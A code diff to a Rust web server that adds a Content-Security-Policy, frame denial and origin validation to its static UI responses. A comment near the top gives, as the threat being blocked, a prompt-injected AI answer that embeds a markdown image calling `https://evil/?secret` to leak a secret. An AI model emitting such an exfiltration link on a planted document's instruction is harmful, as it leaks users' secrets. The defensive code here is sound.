@@ -7,6 +7,14 @@
 //! problem+json 404, as API clients expect. Vite names its bundles after
 //! their content, so `/assets/*` may be cached for good; `index.html` must be
 //! revalidated, or a deployment would leave browsers on the old bundles.
+//!
+//! Every answer carries a Content-Security-Policy: scripts, styles, fonts
+//! and workers from this origin only (and Clerk's Frontend API, whose sign-in
+//! script the UI loads when Clerk is configured), images from here, `data:`
+//! and `blob:` only — an answer a document steered into
+//! `![](https://evil/?secret)` loads nothing — and no framing
+//! (`frame-ancestors 'none'`, clickjacking). `nosniff` and the referrer
+//! policy are set on every response of the server (`app::router`).
 
 use axum::body::Body;
 use axum::extract::{Request, State};
@@ -27,6 +35,68 @@ pub async fn serve(State(state): State<AppState>, request: Request) -> Response 
     if for_api || !matches!(*request.method(), Method::GET | Method::HEAD) {
         return ApiError::NotFound.into_response();
     }
+    let mut response = files(&state, request).await;
+    let csp = content_security_policy(state.config.clerk.as_ref().map(|c| c.issuer.as_str()));
+    if let Ok(csp) = HeaderValue::from_str(&csp) {
+        response
+            .headers_mut()
+            .insert(header::CONTENT_SECURITY_POLICY, csp);
+    }
+    response
+        .headers_mut()
+        .insert(header::X_FRAME_OPTIONS, HeaderValue::from_static("DENY"));
+    response
+}
+
+/// The policy of the UI's pages; `clerk` is Clerk's Frontend API URL
+/// (`CLERK_ISSUER`), whose script, API and images the sign-in uses, with
+/// Cloudflare's bot challenge that Clerk's sign-up shows in a frame.
+pub fn content_security_policy(clerk: Option<&str>) -> String {
+    let clerk = clerk
+        .and_then(origin)
+        .map(|origin| format!(" {origin}"))
+        .unwrap_or_default();
+    let (challenge, clerk_images) = if clerk.is_empty() {
+        ("", "")
+    } else {
+        (
+            " https://challenges.cloudflare.com",
+            " https://img.clerk.com",
+        )
+    };
+    format!(
+        "default-src 'self'; \
+         script-src 'self'{clerk}{challenge}; \
+         connect-src 'self'{clerk}; \
+         img-src 'self' data: blob:{clerk_images}; \
+         style-src 'self' 'unsafe-inline'; \
+         font-src 'self' data:; \
+         worker-src 'self' blob:; \
+         frame-src 'self'{challenge}; \
+         object-src 'none'; \
+         base-uri 'self'; \
+         form-action 'self'; \
+         frame-ancestors 'none'"
+    )
+}
+
+/// `scheme://host[:port]` of a URL, or `None` for something else (a
+/// setting that is not an http(s) URL must not widen the policy).
+fn origin(url: &str) -> Option<String> {
+    let (scheme, rest) = url.split_once("://")?;
+    if !matches!(scheme, "https" | "http") {
+        return None;
+    }
+    let host = rest.split(['/', '?', '#']).next()?;
+    let valid = !host.is_empty()
+        && host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'));
+    valid.then(|| format!("{scheme}://{host}"))
+}
+
+async fn files(state: &AppState, request: Request) -> Response {
+    let path = request.uri().path();
     let dir = &state.config.web_dir;
     let index = dir.join("index.html");
     if !index.is_file() {
